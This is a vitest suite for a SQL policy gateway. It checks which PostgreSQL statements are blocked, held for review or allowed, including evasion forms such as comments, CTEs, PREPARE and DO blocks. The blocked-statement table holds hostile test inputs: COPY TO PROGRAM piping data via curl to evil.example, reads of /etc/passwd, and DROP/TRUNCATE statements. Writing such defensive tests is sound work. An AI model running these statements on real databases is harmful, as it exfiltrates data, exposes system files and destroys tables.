// The policy evaluator, table-driven: a corpus of statements that must be blocked, held for
// review or allowed under the policy from issue 4, with the evasion forms a raw-text matcher
// misses (comments, case, quoting, schemas, multi-statements, CTEs, EXPLAIN ANALYZE, PREPARE,
// CREATE … AS, DO, nested function calls, dynamic SQL).
import { describe, expect, it } from 'vitest';
import { BUILTIN_RULES } from '../../../gateway/policy/evaluate.js';
import { PreparedStatements } from '../../../gateway/policy/prepared.js';
import { analyzeSql } from '../../../gateway/policy/sql.js';
import { DBA, decide, policyFromYaml } from './fixtures.js';

const BLOCKED: readonly [sql: string, rule: string][] = [
  // DDL, however it is written
  ['DROP TABLE customers', 'no-ddl'],
  ['drop table customers', 'no-ddl'],
  ['DrOp TaBlE customers', 'no-ddl'],
  ['/* harmless */ DROP TABLE customers', 'no-ddl'],
  ['DROP/**/TABLE/**/customers', 'no-ddl'],
  ['-- just a comment\nDROP TABLE customers', 'no-ddl'],
  ['/* nested /* comment */ still */ DROP TABLE customers', 'no-ddl'],
  ['   \n\t DROP TABLE "Customers"', 'no-ddl'],
  ['DROP TABLE public.customers', 'no-ddl'],
  ['DROP TABLE IF EXISTS "public"."customers" CASCADE', 'no-ddl'],
  ['DROP VIEW v', 'no-ddl'],
  ['DROP SCHEMA billing CASCADE', 'no-ddl'],
  ['DROP DATABASE app', 'no-ddl'],
  ['DROP ROLE bob', 'no-ddl'],
  ['DROP FUNCTION f(int)', 'no-ddl'],
  ['TRUNCATE customers', 'no-ddl'],
  ['truncate table a, b.c RESTART IDENTITY', 'no-ddl'],
  ['ALTER TABLE customers DROP COLUMN email', 'no-ddl'],
  ['ALTER TABLE customers RENAME TO old_customers', 'no-ddl'],
  ['ALTER ROLE app SUPERUSER', 'no-ddl'],
  ['ALTER SYSTEM SET log_statement = none', 'no-ddl'],
  // multi-statement strings: one blocked statement blocks all
  ['SELECT 1; DROP TABLE customers', 'no-ddl'],
  ["SELECT 'a;b'; TRUNCATE customers; SELECT 2", 'no-ddl'],
  ['SELECT $$ ; DROP TABLE x; $$; DROP TABLE customers', 'no-ddl'],
  // unbounded writes, also inside CTEs and EXPLAIN ANALYZE
  ['DELETE FROM customers', 'no-unbounded-writes'],
  ['delete from "customers" -- where id = 1', 'no-unbounded-writes'],
  ['UPDATE customers SET email = NULL', 'no-unbounded-writes'],
  ['UPDATE customers SET email = NULL WHERE true', 'no-unbounded-writes'],
  ['UPDATE customers SET email = NULL WHERE 1 = 1', 'no-unbounded-writes'],
  ['WITH d AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM d', 'no-unbounded-writes'],
  ['WITH a AS (SELECT 1), b AS (UPDATE customers SET x = 1 RETURNING 1) SELECT * FROM a', 'no-unbounded-writes'],
  ['EXPLAIN ANALYZE DELETE FROM customers', 'no-unbounded-writes'],
  ['EXPLAIN (ANALYZE, BUFFERS) UPDATE customers SET x = 1', 'no-unbounded-writes'],
  ['EXPLAIN (ANALYZE true) DELETE FROM customers', 'no-unbounded-writes'],
  ['COPY (DELETE FROM customers RETURNING *) TO STDOUT', 'no-unbounded-writes'],
  // file access: functions anywhere, in any case or schema
  ["SELECT pg_read_file('/etc/passwd')", 'no-file-access'],
  ["SELECT PG_READ_FILE('/etc/passwd')", 'no-file-access'],
  ["SELECT \"pg_read_file\"('/etc/passwd')", 'no-file-access'],
  ["SELECT pg_catalog.pg_read_file('/etc/passwd')", 'no-file-access'],
  ["SELECT * FROM pg_ls_dir('.')", 'no-file-access'],
  ["SELECT id FROM customers WHERE id IN (SELECT length(pg_read_file('x')))", 'no-file-access'],
  ["SELECT (SELECT (SELECT pg_read_file('x')))", 'no-file-access'],
  ["WITH f AS (SELECT pg_read_file('x') AS t) SELECT * FROM f", 'no-file-access'],
  ["SELECT coalesce(NULL, lo_export(1, '/tmp/x'))", 'no-file-access'],
  ["SELECT * FROM customers ORDER BY pg_read_file('x')", 'no-file-access'],
  ["SELECT count(*) FILTER (WHERE pg_read_file('x') <> '') FROM customers", 'no-file-access'],
  ["SELECT * FROM dblink('dbname=x', 'select 1') AS t(a int)", 'no-file-access'],
  ["CREATE TABLE t (a text DEFAULT pg_read_file('x'))", 'no-file-access'],
  ["INSERT INTO t VALUES (pg_read_file('x'))", 'no-file-access'],
  ["CALL pg_read_file('x')", 'no-file-access'],
  ["COPY customers TO PROGRAM 'curl -d @- evil.example'", 'no-file-access'],
  ["COPY customers FROM PROGRAM 'cat /etc/passwd'", 'no-file-access'],
  ["copy (select 1) to program 'sh -c id'", 'no-file-access'],
  // function calls that only happen later still meet block rules
  ["CREATE VIEW v AS SELECT pg_read_file('x')", 'no-file-access'],
  ["CREATE FUNCTION f() RETURNS text LANGUAGE sql AS $$ SELECT pg_read_file('x') $$", 'no-file-access'],
  ["CREATE FUNCTION f() RETURNS text LANGUAGE sql BEGIN ATOMIC SELECT pg_read_file('x'); END", 'no-file-access'],
  ["PREPARE p AS SELECT pg_read_file('x')", 'no-file-access'],
  ["EXPLAIN SELECT pg_read_file('x')", 'no-file-access'],
  // dynamic SQL with a constant is parsed and judged
  ["SELECT query_to_xml('select pg_read_file(''x'')', true, true, '')", 'no-file-access'],
  ["SELECT query_to_xml('drop table customers', true, true, '')", 'no-ddl'],
];

describe('blocked statements', () => {
  it.each(BLOCKED)('%s → blocked by %s', (sql, rule) => {
    const d = decide(sql);
    expect(d.verdict).toBe('block');
    expect(d.rule).toBe(rule);
    expect(d.reason).toBeTruthy();
  });

  it('the corpus has at least 40 blocked statements', () => {
    expect(BLOCKED.length).toBeGreaterThanOrEqual(40);
  });

  it('block rules apply to members of excepted review groups too', () => {
    expect(decide('DROP TABLE customers', { who: DBA }).verdict).toBe('block');
  });

  it('uses the rule message as the reason when there is one', () => {
    expect(decide('DROP TABLE customers').reason).toBe('DDL is not allowed on production');
    expect(decide('DELETE FROM customers').reason).toBe('blocked by rule no-unbounded-writes: delete without a WHERE clause');
  });

  it('block wins over review in the same message', () => {
    const d = decide('INSERT INTO t VALUES (1); DROP TABLE customers');
    expect(d.verdict).toBe('block');
    // DROP TABLE removes every row: the rule on deletes matches it too.
    expect(d.hits.map((h) => h.rule)).toEqual(['writes-need-review', 'no-ddl', 'writes-need-review']);
  });
});

const REVIEWED: readonly string[] = [
  'INSERT INTO customers (email) VALUES (1)',
  'insert into customers select * from staging',
  'UPDATE customers SET email = NULL WHERE id = 1',
  'DELETE FROM customers WHERE id = 1',
  'SELECT 1; DELETE FROM customers WHERE id = 1',
  'WITH d AS (DELETE FROM customers WHERE id = 1 RETURNING *) SELECT * FROM d',
  'EXPLAIN ANALYZE DELETE FROM customers WHERE id = 1',
  'COPY (UPDATE customers SET x = 1 WHERE id = 2 RETURNING id) TO STDOUT',
  'CREATE TABLE t2 AS WITH i AS (INSERT INTO log VALUES (1) RETURNING 1) SELECT * FROM i',
  "SELECT * FROM query_to_xml('insert into t values (1)', true, true, '')",
  'MERGE INTO customers c USING staging s ON c.id = s.id WHEN MATCHED THEN DELETE',
];

describe('statements held for review', () => {
  it.each(REVIEWED)('%s → review', (sql) => {
    const d = decide(sql);
    expect(d.verdict).toBe('review');
    expect(d.rule).toBe('writes-need-review');
    expect(d.approvers).toEqual(['dba']);
    expect(d.timeoutMs).toBe(600_000);
    expect(d.reviews).toEqual([{ rule: 'writes-need-review', approvers: ['dba'], timeoutMs: 600_000 }]);
  });

  it.each(REVIEWED)('%s → allowed for the excepted group', (sql) => {
    expect(decide(sql, { who: DBA }).verdict).toBe('allow');
  });
});

const ALLOWED: readonly string[] = [
  'SELECT 1',
  'select * from customers',
  'SELECT email AS e FROM customers c JOIN orders o ON o.customer_id = c.id',
  "SELECT 'DROP TABLE customers'",
  '-- DROP TABLE customers\nSELECT 1',
  '/* DELETE FROM customers */ SELECT 1',
  "SELECT $tag$ DROP TABLE x; DELETE FROM y $tag$",
  'SELECT * FROM "drop"',
  'SELECT pg_read_file_size FROM metrics',
  "SELECT my_pg_read_file('x')",
  'EXPLAIN DELETE FROM customers WHERE id = 1',
  'EXPLAIN (ANALYZE false) DELETE FROM customers WHERE id = 1',
  'EXPLAIN SELECT * FROM customers',
  'BEGIN',
  'COMMIT',
  'ROLLBACK',
  'SET search_path = public',
  'SHOW server_version',
  'PREPARE q(int) AS SELECT * FROM customers WHERE id = $1',
  'PREPARE w(int) AS DELETE FROM customers WHERE id = $1',
  'DEALLOCATE ALL',
  'COPY customers TO STDOUT',
  'CREATE TABLE t3 AS SELECT * FROM customers',
  'CREATE INDEX ON customers (email)',
  'VACUUM customers',
  '',
  '  ;  ',
  '-- only a comment',
];

describe('allowed statements', () => {
  it.each(ALLOWED)('%s → allow', (sql) => {
    const d = decide(sql);
    expect(d.verdict).toBe('allow');
    expect(d.hits).toEqual([]);
  });

  it('the corpus has at least 20 allowed statements', () => {
    expect(ALLOWED.length).toBeGreaterThanOrEqual(20);
  });

  it('returns the identity\'s mask rules with every decision', () => {
    const d = decide('SELECT 1');
    expect(d.mask?.rules).toEqual(['pii', 'pii-anywhere']);
  });
});

describe('fail closed', () => {
  it('blocks SQL that does not parse, with the parse error', () => {
    const d = decide('SELEC * FROM customers');
    expect(d).toMatchObject({ verdict: 'block', rule: BUILTIN_RULES.unparseable });
    expect(d.reason).toContain('syntax error at or near "SELEC"');
  });

  it('blocks an unterminated string or comment (the server would see the rest differently)', () => {
    expect(decide("SELECT 'abc").verdict).toBe('block');
    expect(decide('SELECT 1 /* DROP TABLE customers').verdict).toBe('block');
  });

  it('does not block unparseable SQL on a connection without block or review rules', () => {
    const maskOnly = policyFromYaml('rules: [{ id: m, mask: { detect: [email] } }]');
    expect(decide('SELEC 1', { policy: maskOnly }).verdict).toBe('allow');
    expect(decide('SELEC 1', { policy: policyFromYaml('rules: []') }).verdict).toBe('allow');
  });

  it('does not block unparseable SQL for someone no block or review rule applies to', () => {
    const p = policyFromYaml('rules: [{ id: r, block: { statements: [drop] }, except: { groups: [dba] } }]');
    expect(decide('SELEC 1', { policy: p, who: DBA }).verdict).toBe('allow');
    expect(decide('SELEC 1', { policy: p }).verdict).toBe('block');
  });

  it('blocks unparseable SQL when only review rules apply', () => {
    const p = policyFromYaml('rules: [{ id: r, review: { statements: [delete], approvers: [dba] } }]');
    expect(decide('SELEC 1', { policy: p }).verdict).toBe('block');
  });

  it('blocks DO blocks when the policy has a block rule', () => {
    for (const sql of ["DO $$ BEGIN PERFORM pg_read_file('x'); END $$", "do 'begin null; end'", 'DO LANGUAGE plpgsql $x$ BEGIN EXECUTE $q$DROP TABLE customers$q$; END $x$']) {
      const d = decide(sql);
      expect(d).toMatchObject({ verdict: 'block', rule: BUILTIN_RULES.opaque });
      expect(d.reason).toContain('DO block');
    }
  });

  it('holds DO blocks for review when only review rules apply', () => {
    const p = policyFromYaml('rules: [{ id: r, review: { statements: [delete], approvers: [dba], timeout: 5m } }]');
    expect(decide('DO $$ BEGIN NULL; END $$', { policy: p })).toMatchObject({ verdict: 'review', rule: BUILTIN_RULES.opaque, approvers: ['dba'], timeoutMs: 300_000 });
  });

  it('blocks functions whose body is opaque (not SQL) when the policy has a block rule', () => {
    const d = decide("CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ BEGIN RETURN pg_read_file('x'); END $$");
    expect(d).toMatchObject({ verdict: 'block', rule: BUILTIN_RULES.opaque });
    expect(decide("CREATE FUNCTION f() RETURNS int LANGUAGE c AS 'evil.so', 'f'").verdict).toBe('block');
  });

  it('blocks dynamic SQL the gateway cannot read', () => {
    expect(decide("SELECT query_to_xml(sql_text, true, true, '') FROM stash").rule).toBe(BUILTIN_RULES.opaque);
    expect(decide("SELECT query_to_xml('select ' || 'pg_read_file(1)', true, true, '')").rule).toBe(BUILTIN_RULES.opaque);
  });

  it('allows DO blocks for someone no block rule applies to', () => {
    const p = policyFromYaml('rules: [{ id: r, block: { statements: [drop] }, except: { groups: [dba] } }]');
    expect(decide('DO $$ BEGIN NULL; END $$', { policy: p, who: DBA }).verdict).toBe('allow');
  });
});

function preparedFrom(sql: string): PreparedStatements {
  const prepared = new PreparedStatements();
  const a = analyzeSql(sql);
  if (!a.ok) throw new Error(a.error);
  for (const s of a.statements) prepared.completed(s, sql);
  return prepared;
}

describe('PREPARE and EXECUTE', () => {
  it('judges EXECUTE as the prepared statement', () => {
    const prepared = preparedFrom('PREPARE w(int) AS DELETE FROM customers WHERE id = $1; PREPARE r AS SELECT 1; PREPARE u AS UPDATE customers SET x = 1');
    expect(decide('EXECUTE w(1)', { prepared })).toMatchObject({ verdict: 'review', rule: 'writes-need-review' });
    expect(decide('execute   W (1)', { prepared }).verdict).toBe('review'); // names fold like identifiers
    expect(decide('EXECUTE r', { prepared }).verdict).toBe('allow');
    expect(decide('EXECUTE u', { prepared })).toMatchObject({ verdict: 'block', rule: 'no-unbounded-writes' });
    expect(decide('EXPLAIN ANALYZE EXECUTE u', { prepared }).verdict).toBe('block');
    expect(decide('CREATE TABLE x AS EXECUTE w(1)', { prepared }).verdict).toBe('review');
  });

  it('blocks EXECUTE of a statement the gateway has not seen prepared', () => {
    const d = decide('EXECUTE ghost', { prepared: new PreparedStatements() });
    expect(d).toMatchObject({ verdict: 'block', rule: BUILTIN_RULES.unknownPrepared });
    expect(decide('EXECUTE ghost').verdict).toBe('block');
  });

  it('sees a PREPARE earlier in the same message', () => {
    expect(decide('PREPARE w AS DELETE FROM customers WHERE id = 1; EXECUTE w').verdict).toBe('review');
    expect(decide('PREPARE u AS UPDATE customers SET x = 1; EXECUTE u').verdict).toBe('block');
    expect(decide('PREPARE s AS SELECT 1; EXECUTE s').verdict).toBe('allow');
  });

  it('forgets names deallocated earlier in the same message', () => {
    const prepared = preparedFrom('PREPARE r AS SELECT 1');
    expect(decide('DEALLOCATE r; EXECUTE r', { prepared }).verdict).toBe('block');
    expect(decide('DEALLOCATE ALL; EXECUTE r', { prepared }).verdict).toBe('block');
    expect(decide('DEALLOCATE ALL; PREPARE r AS SELECT 2; EXECUTE r', { prepared }).verdict).toBe('allow');
  });

  it('only changes its memory on what the server confirmed', () => {
    const prepared = preparedFrom('PREPARE w AS DELETE FROM customers WHERE id = 1');
    // The client re-prepares w (the server refuses: it exists); the engine never calls completed().
    expect(decide('PREPARE w AS SELECT 1').verdict).toBe('allow');
    expect(decide('EXECUTE w', { prepared }).verdict).toBe('review');
    const dealloc = analyzeSql('DEALLOCATE w');
    if (dealloc.ok) for (const s of dealloc.statements) prepared.completed(s, 'DEALLOCATE w');
    expect(decide('EXECUTE w', { prepared }).verdict).toBe('block');
    expect(prepared.size).toBe(0);
  });

  it('tracks extended-protocol named statements', () => {
    const prepared = new PreparedStatements();
    prepared.parsed('s1', analyzeSql('DELETE FROM customers WHERE id = $1'), 'DELETE FROM customers WHERE id = $1');
    prepared.parsed('', analyzeSql('DROP TABLE customers'), 'DROP TABLE customers');
    expect(decide('EXECUTE s1(5)', { prepared }).verdict).toBe('review');
    prepared.parsed('s1', analyzeSql('SELECT 1'), 'SELECT 1');
    expect(decide('EXECUTE s1', { prepared }).verdict).toBe('allow');
    prepared.parsed('s1', analyzeSql('SELEC 1'), 'SELEC 1');
    expect(decide('EXECUTE s1', { prepared }).verdict).toBe('block');
    prepared.parsed('s2', analyzeSql('SELECT 1'), 'SELECT 1');
    prepared.closed('s2');
    expect(prepared.get('s2')).toBeUndefined();
  });

  it('DISCARD ALL forgets every prepared statement', () => {
    const prepared = preparedFrom('PREPARE a AS SELECT 1; PREPARE b AS SELECT 2; DISCARD ALL');
    expect(prepared.size).toBe(0);
  });

  it('forgets the oldest statements beyond its capacity (EXECUTE of them then fails closed)', () => {
    const prepared = new PreparedStatements(2);
    for (const n of ['a', 'b', 'c']) prepared.parsed(n, analyzeSql('SELECT 1'), 'SELECT 1');
    expect(prepared.get('a')).toBeUndefined();
    expect(prepared.size).toBe(2);
  });

  it('a PREPARE of a blocked statement is blocked at once; review waits for EXECUTE', () => {
    expect(decide('PREPARE d AS DROP TABLE customers').verdict).toBe('block'); // a syntax error in PostgreSQL too
    expect(decide('PREPARE u AS UPDATE customers SET x = 1').rule).toBe('no-unbounded-writes');
    expect(decide('PREPARE w AS DELETE FROM customers WHERE id = 1').verdict).toBe('allow');
  });
});

describe('conditions', () => {
  const p = policyFromYaml(`
rules:
  - id: secrets-table
    block: { tables: [vault.secrets, "audit_*"] }
  - id: drop-table-only
    block: { statements: ["drop table"] }
  - id: regex
    block: { sql: "pg_sleep\\\\s*\\\\(" }
  - id: delete-customers
    review: { statements: [delete], tables: [customers], match: all, approvers: [dba], timeout: 1h30m }
  - id: copy-file
    block: { copyFile: true }
  - id: scoped
    block: { statements: [vacuum] }
    for: { groups: [Interns] }
`);

  it.each([
    ['SELECT * FROM vault.secrets', 'secrets-table'],
    ['SELECT * FROM secrets', 'secrets-table'], // search_path may reach vault
    ['SELECT * FROM "VAULT"."SECRETS"', 'secrets-table'],
    ['SELECT * FROM x JOIN secrets s ON true', 'secrets-table'],
    ['SELECT * FROM (SELECT * FROM vault.secrets) s', 'secrets-table'],
    ['SELECT * FROM audit_log', 'secrets-table'],
    ['INSERT INTO audit_2024 VALUES (1)', 'secrets-table'],
    ['DROP SCHEMA vault CASCADE', 'secrets-table'],
    ["SELECT table_to_xml('vault.secrets', true, true, '')", 'secrets-table'],
    ['LOCK TABLE vault.secrets', 'secrets-table'],
    ['GRANT SELECT ON vault.secrets TO public', 'secrets-table'],
    ['drop table other', 'drop-table-only'],
    ['SELECT pg_sleep (10)', 'regex'],
    ["COPY t FROM '/etc/passwd'", 'copy-file'],
    ["COPY t TO '/tmp/out.csv'", 'copy-file'],
  ])('%s → %s', (sql, rule) => {
    expect(decide(sql, { policy: p })).toMatchObject({ verdict: 'block', rule });
  });

  it.each(['SELECT * FROM other.secrets', 'SELECT * FROM secrets_archive', 'DROP VIEW v', 'SELECT 1', 'COPY t TO STDOUT', 'VACUUM t'])('%s → allow', (sql) => {
    expect(decide(sql, { policy: p }).verdict).toBe('allow');
  });

  it('match: all needs every condition on the same statement', () => {
    expect(decide('DELETE FROM customers WHERE id = 1', { policy: p })).toMatchObject({ verdict: 'review', timeoutMs: 5_400_000 });
    expect(decide('DELETE FROM orders WHERE id = 1', { policy: p }).verdict).toBe('allow');
    expect(decide('SELECT * FROM customers', { policy: p }).verdict).toBe('allow');
  });

  it('sql patterns match the text the client sent, or the text that prepared an EXECUTEd statement', () => {
    expect(decide('SELECT 1 /* pg_sleep( */', { policy: p }).rule).toBe('regex');
    const prepared = new PreparedStatements();
    prepared.parsed('s', analyzeSql('SELECT pg_sleep(5)'), 'SELECT pg_sleep(5)');
    expect(decide('EXECUTE s', { policy: p, prepared }).rule).toBe('regex');
    expect(decide('PREPARE q AS SELECT pg_sleep(1); EXECUTE q', { policy: p }).rule).toBe('regex');
  });

  it('sees the DELETE/UPDATE inside MERGE and the UPDATE of an upsert', () => {
    const updates = policyFromYaml('rules: [{ id: u, block: { statements: [update] } }, { id: d, block: { statements: [delete] } }]');
    expect(decide('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', { policy: updates }).rule).toBe('d');
    expect(decide('MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 1 WHEN NOT MATCHED THEN INSERT VALUES (1)', { policy: updates }).rule).toBe('u');
    expect(decide('INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET a = 2', { policy: updates }).rule).toBe('u');
    expect(decide('INSERT INTO t VALUES (1) ON CONFLICT DO NOTHING', { policy: updates }).verdict).toBe('allow');
    expect(decide('MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (1)', { policy: updates }).verdict).toBe('allow');
  });

  it('for: scopes a rule to its groups (case-insensitively)', () => {
    expect(decide('VACUUM t', { policy: p, who: { groups: ['interns'] } }).rule).toBe('scoped');
  });

  it('records why each rule matched', () => {
    const d = decide('SELECT pg_sleep(1) FROM vault.secrets', { policy: p });
    expect(d.hits).toEqual([
      { rule: 'secrets-table', action: 'block', command: 'select', because: 'table vault.secrets' },
      { rule: 'regex', action: 'block', command: 'select', because: 'text matches /pg_sleep\\s*\\(/' },
    ]);
  });

  it('asks every matching review rule for approval and waits the shortest timeout', () => {
    const two = policyFromYaml(`
rules:
  - { id: a, review: { statements: [update], approvers: [dba], timeout: 1h } }
  - { id: b, review: { tables: [payroll], approvers: [hr], timeout: 10m } }
`);
    const d = decide('UPDATE payroll SET x = 1 WHERE id = 1', { policy: two });
    expect(d).toMatchObject({ verdict: 'review', rule: 'a', approvers: ['dba'], timeoutMs: 600_000 });
    expect(d.reviews).toEqual([
      { rule: 'a', approvers: ['dba'], timeoutMs: 3_600_000 },
      { rule: 'b', approvers: ['hr'], timeoutMs: 600_000 },
    ]);
  });

  it('judges COPY table TO as a select of it, and a new name for a relation as every statement on it', () => {
    const reads = policyFromYaml('rules: [{ id: no-secrets, block: { statements: [select], tables: [vault.secrets], match: all } }]');
    for (const sql of [
      'COPY vault.secrets TO STDOUT',
      'copy vault.secrets (body) to stdout with (format csv)',
      'ALTER TABLE vault.secrets RENAME TO plain',
      'alter table if exists secrets rename to plain',
      'ALTER TABLE vault.secrets SET SCHEMA public',
      'ALTER VIEW vault.secrets RENAME TO v',
      'ALTER SCHEMA vault RENAME TO v2',
      'INSERT INTO vault.notes SELECT * FROM vault.secrets',
      "UPDATE vault.notes SET body = (SELECT body FROM vault.secrets LIMIT 1) WHERE id = 1",
      "INSERT INTO vault.notes VALUES (1, 'x') RETURNING (SELECT body FROM vault.secrets LIMIT 1)",
      'UPDATE vault.secrets SET id = id WHERE id = 1 RETURNING body',
      'DELETE FROM vault.secrets WHERE id = 1 RETURNING *',
      'DELETE FROM vault.notes USING vault.secrets WHERE notes.id = secrets.id',
    ]) expect(decide(sql, { policy: reads }), sql).toMatchObject({ verdict: 'block', rule: 'no-secrets' });
    for (const sql of ['COPY vault.notes TO STDOUT', 'COPY vault.secrets FROM STDIN', 'ALTER TABLE vault.secrets RENAME COLUMN body TO b', 'ALTER TABLE vault.notes RENAME TO n', 'ALTER SCHEMA other RENAME TO o2', 'ALTER TABLE vault.secrets ADD COLUMN x int', "INSERT INTO vault.secrets VALUES (2, 'x')", "UPDATE vault.secrets SET body = 'x' WHERE id = 2", 'INSERT INTO vault.notes SELECT * FROM vault.notes RETURNING id']) {
      expect(decide(sql, { policy: reads }).verdict, sql).toBe('allow');
    }
    const writes = policyFromYaml('rules: [{ id: pay, review: { statements: [update], tables: [payments], match: all, approvers: [dba] } }]');
    expect(decide('ALTER TABLE payments RENAME TO p2', { policy: writes })).toMatchObject({ verdict: 'review', rule: 'pay' });
    expect(decide('COPY payments TO STDOUT', { policy: writes }).verdict).toBe('allow');
  });

  it('counts a routine renamed as named by the rename (its new name is no rule\'s)', () => {
    const files = policyFromYaml('rules: [{ id: files, block: { functions: [pg_read_file, lo_*] } }]');
    for (const sql of ['ALTER FUNCTION pg_catalog.pg_read_file(text) RENAME TO rf', 'alter routine pg_read_file(text, bigint, bigint) rename to rf', 'ALTER FUNCTION lo_import(text) RENAME TO li']) {
      expect(decide(sql, { policy: files }), sql).toMatchObject({ verdict: 'block', rule: 'files' });
    }
    expect(decide('ALTER FUNCTION my_report(int) RENAME TO report', { policy: files }).verdict).toBe('allow');
  });
});
